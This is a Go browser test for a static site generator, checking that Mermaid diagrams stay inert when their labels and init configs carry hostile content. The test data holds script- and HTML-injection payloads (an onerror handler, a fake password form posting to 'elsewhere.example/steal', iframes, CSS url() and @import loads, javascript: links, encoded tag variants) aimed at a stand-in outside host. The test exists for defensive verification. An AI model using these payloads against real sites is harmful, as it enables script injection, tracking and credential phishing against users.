package browser

import (
	"bytes"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"ankerplatz/generator/browser"
)

// labels are what somebody may try to get into a diagram by its words. Mermaid
// can't read some of them in some kinds of diagrams; then the source stays.
var labels = []string{
	`<img src='http://elsewhere.example/1.png'>`,
	`<img src=x onerror='document.title=1'>`,
	`<video src=http://elsewhere.example/2.mp4 poster=http://elsewhere.example/2.png></video><audio src=http://elsewhere.example/2.mp3 autoplay></audio>`,
	`<form action=http://elsewhere.example/steal><input name=pw type=password><button>Log in</button></form><b id=_main>x</b>`,
	`<iframe src=http://elsewhere.example/3></iframe><object data=http://elsewhere.example/4></object><embed src=http://elsewhere.example/5>`,
	`<svg><image href=http://elsewhere.example/6.png /><use href=http://elsewhere.example/7.svg#a /></svg>`,
	`<a href=http://elsewhere.example/8>here</a>`,
	`<span style='background:url(http://elsewhere.example/9.png);position:fixed;inset:0'>x</span>`,
	`<style>body{background:url(http://elsewhere.example/10.png)}</style><link rel=stylesheet href=http://elsewhere.example/11.css>`,
	`#lt;img src=http://elsewhere.example/12.png#gt;`,
	`&lt;img src=http://elsewhere.example/13.png&gt;`,
	`#60;img src=http://elsewhere.example/14.png#62;`,
	`\u003cimg src=http://elsewhere.example/15.png\u003e`,
	`![x](http://elsewhere.example/16.png)`,
	`$$\includegraphics{http://elsewhere.example/17.png} \href{http://elsewhere.example/18}{x}$$`,
	`fa:fa-user <picture><source srcset=http://elsewhere.example/19.png><img></picture>`,
}

// wholes are diagrams that try it by other means.
var wholes = []string{
	"flowchart LR\n A@{ img: \"http://elsewhere.example/20.png\", w: 60, h: 60 }",
	"flowchart LR\n A@{ img: \"//elsewhere.example/21.png\", label: \"x\" } --> B@{ icon: \"fa:user\", form: \"square\" }",
	"%%{init: {\"themeCSS\": \".node rect { background-image: url(http://elsewhere.example/22.png); fill: url(http://elsewhere.example/22.svg#x) }\"}}%%\nflowchart LR\n A --> B",
	"%%{init: {\"themeCSS\": \"} @import url(http://elsewhere.example/23.css); body{background:url(http://elsewhere.example/23.png)} x{\"}}%%\nflowchart LR\n A --> B",
	"%%{init: {\"fontFamily\": \"x;} *{background:url(http://elsewhere.example/24.png)} a{b:c\"}}%%\nflowchart LR\n A --> B",
	"%%{init: {\"themeVariables\": {\"primaryColor\": \"url(http://elsewhere.example/25.png)\"}}}%%\nflowchart LR\n A --> B",
	"%%{init: {\"securityLevel\": \"loose\", \"htmlLabels\": true, \"flowchart\": {\"htmlLabels\": true}, \"secure\": []}}%%\nflowchart LR\n A[\"<img src=http://elsewhere.example/26.png>\"]\n click A href \"javascript:document.title=1\"",
	"---\nconfig:\n  themeCSS: \".node rect { background-image: url(http://elsewhere.example/27.png) }\"\n  htmlLabels: true\n  securityLevel: loose\n---\nflowchart LR\n A[\"<img src=http://elsewhere.example/28.png>\"] --> B",
	"flowchart LR\n A --> B\n classDef a fill:url(http://elsewhere.example/29.svg#a),background:url(http://elsewhere.example/29.png)\n class A a",
	"flowchart LR\n A --> B\n style A background-image:url(http://elsewhere.example/30.png)\n linkStyle 0 stroke:url(http://elsewhere.example/30.svg#a)",
	"flowchart LR\n A --> B\n classDef a --x:\\75rl(http://elsewhere.example/31.png),background:var(--x)\n class A a",
	"flowchart LR\n A --> B\n click A href \"http://elsewhere.example/32\" _blank\n click B \"/en/tips/kinds/\"",
	"stateDiagram-v2\n [*] --> s1\n classDef b background:url(http://elsewhere.example/33.png)\n class s1 b",
	"classDiagram\n class A\n style A fill:url(http://elsewhere.example/34.svg#a)\n link A \"http://elsewhere.example/34\"\n classDef x background:url(http://elsewhere.example/34.png)\n cssClass \"A\" x",
	"sequenceDiagram\n participant A\n link A: Home @ http://elsewhere.example/35\n rect url(http://elsewhere.example/35.svg#a)\n A->>A: x\n end\n box url(http://elsewhere.example/35.svg#b) Box\n participant B\n end",
	"C4Context\n Person(a, \"A\", \"b\", $sprite=\"http://elsewhere.example/36.png\", $link=\"http://elsewhere.example/36\")\n UpdateElementStyle(a, $bgColor=\"url(http://elsewhere.example/36.svg#a)\")",
	"gantt\n dateFormat YYYY-MM-DD\n section s\n one :a1, 2026-01-05, 10d\n click a1 href \"http://elsewhere.example/37\"",
	"mindmap\n root\n  A\n  ::icon(x\" style=\"background:url(http://elsewhere.example/38.png))",
	"quadrantChart\n A: [0.3, 0.6] color: url(http://elsewhere.example/39.svg#a)",
	"architecture-beta\n service a(http://elsewhere.example/40.png)[A]\n service b(logos:aws)[B]",
	"erDiagram\n A ||--o{ B : x\n style A fill:url(http://elsewhere.example/41.svg#a)\n classDef z background:url(http://elsewhere.example/41.png)\n class B z",
	"block-beta\n a\n style a fill:url(http://elsewhere.example/42.svg#a)\n classDef z background:url(http://elsewhere.example/42.png)\n class a z",
	"treemap-beta\n\"a\":::z\n    \"b\": 10\nclassDef z fill:url(http://elsewhere.example/43.svg#a);",
	"requirementDiagram\n requirement n {\n  id: 1\n  text: x\n }\n style n background:url(http://elsewhere.example/44.png)",
}

var begins = regexp.MustCompile(`(?m)^== (\S+)\n`)

// diagrams builds a hub with a page for each kind of diagrams: an honest one
// first, then one for each label. The page "wholes" has the others.
func diagrams(t *testing.T) (h *hub, pages []string) {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", "diagrams", "kinds.txt"))
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{"site.yaml": "title: Diagrams\nbase_url: https://hub.example.org/\nlanguages: {list: [en]}\nchecks: {unsafe-diagram: off}\n"}
	page := func(name string, sources ...string) {
		var text strings.Builder
		fmt.Fprintf(&text, "---\ntitle: %s\n---\n", name)
		for _, source := range sources {
			fmt.Fprintf(&text, "\n````mermaid\n%s\n````\n", source)
		}
		files["content/en/tips/"+name+".md"] = text.String()
		pages = append(pages, "en/tips/"+name+"/")
	}
	names := begins.FindAllSubmatchIndex(data, -1)
	var honest []string
	for i, at := range names {
		end := len(data)
		if i+1 < len(names) {
			end = names[i+1][0]
		}
		source := strings.TrimSpace(string(data[at[1]:end]))
		honest = append(honest, strings.ReplaceAll(source, "@@", "Words"))
		var sources []string
		for _, label := range labels {
			sources = append(sources, strings.ReplaceAll(source, "@@", label))
		}
		page(string(data[at[2]:at[3]]), sources...)
	}
	page("wholes", wholes...)
	page("kinds", honest...)
	return buildFiles(t, files), pages
}

// TestHostileDiagrams: whatever stands in a diagram, nothing comes from
// elsewhere and nothing but words and shapes gets into the page. It holds by
// what is drawn alone: the server sends no policy, and that of the pages is
// taken out.
func TestHostileDiagrams(t *testing.T) {
	t.Parallel()
	h, pages := diagrams(t)
	h.through = func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			next.ServeHTTP(&bare{ResponseWriter: w}, r)
		})
	}
	tb := newTab(t, h)
	tb.expect("cannot be drawn")
	tb.expect("Cytoscape") // which warns of its own container
	for _, p := range pages {
		tb.open(p)
		tb.wait("document.querySelector('pre.mermaid') && [...document.querySelectorAll('pre.mermaid')].every((p) => p.hidden || 'failed' in p.dataset)")
		for _, what := range eval[[]string](tb, `[...document.querySelectorAll(".diagram *")].flatMap((e) => [
			...(/^(?:img|image|picture|source|video|audio|form|input|button|iframe|object|embed|script|style|link|b|math|feimage)$/i.test(e.localName) && !/^data:image\/png/.test(e.href?.baseVal) ? ["<" + e.localName + ">"] : []),
			...[...e.attributes].filter(({ name, value }) => /^on|src/.test(name) || name !== "aria-label" && /elsewhere|javascript/.test(value)).map(({ name, value }) => name + "=" + value),
		])`) {
			tb.Errorf("%s: %s", p, what)
		}
		tb.check("document.querySelectorAll('#_main').length === 1 && document.querySelector('#_main').localName === 'main'", p+": ids are the page's")
		tb.check("[...document.adoptedStyleSheets].every((s) => ![...s.cssRules].some((r) => /elsewhere/.test(r.cssText)))", p+": styles load nothing")
		tb.check("new Set([...document.querySelectorAll('[id]')].map(({ id }) => id)).size === document.querySelectorAll('[id]').length", p+": ids are unique")
		tb.check("document.title !== '1'", p+": nothing runs")
	}
	tb.open("en/tips/kinds/")
	tb.wait("document.querySelector('pre.mermaid') && [...document.querySelectorAll('pre.mermaid')].every((p) => p.hidden || 'failed' in p.dataset)")
	tb.check("document.querySelectorAll('.diagram > svg').length === document.querySelectorAll('pre.mermaid').length", "every honest diagram is drawn")
	tb.check("[...document.querySelectorAll('.diagram')].every((d) => /Words/.test(d.textContent))", "their words are there")
}

// bare takes the policy out of an answer.
type bare struct {
	http.ResponseWriter
	wrote bool
}

func (b *bare) WriteHeader(status int) {
	b.wrote = true
	h := b.Header()
	h.Del("Content-Security-Policy")
	h.Del("Content-Length")
	b.ResponseWriter.WriteHeader(status)
}

func (b *bare) Write(data []byte) (int, error) {
	if !b.wrote {
		b.WriteHeader(http.StatusOK)
	}
	_, err := b.ResponseWriter.Write(bytes.Replace(data, []byte(browser.PolicyTag), nil, 1))
	return len(data), err
}
